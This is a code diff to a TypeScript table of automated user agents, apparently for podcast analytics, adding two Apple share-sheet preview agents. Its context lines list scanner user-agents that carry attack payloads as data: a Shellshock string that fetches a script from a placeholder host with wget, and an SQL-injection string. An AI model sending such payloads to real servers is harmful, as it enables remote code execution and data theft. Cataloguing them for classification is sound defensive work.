@@ -384,6 +384,10 @@ export const AUTOMATED_KINDS: Record<string, AutomatedAgent[]> = {
       },
       { ua: "poddl - podcast downloader", token: "unknown", category: "other" },
     ],
+  "share-sheet link previews whose own list shows them on Apple's app stack (opawg's sample agents)": [
+    { ua: "SharingUIService/1 CFNetwork/1467.1 Darwin/23.0.0", token: "SharingUIService", category: "other" },
+    { ua: "ShareSheetUI/1 CFNetwork/1474 Darwin/23.0.0", token: "ShareSheetUI", category: "other" },
+  ],
   "scanners that put payloads in the agent": [
     { ua: '() { :; }; /bin/bash -c "wget http://198.51.100.7/x.sh"', token: "unknown", category: "other" },
     { ua: "Mozilla/5.0' or 1=1--", token: "unknown", category: "other" },
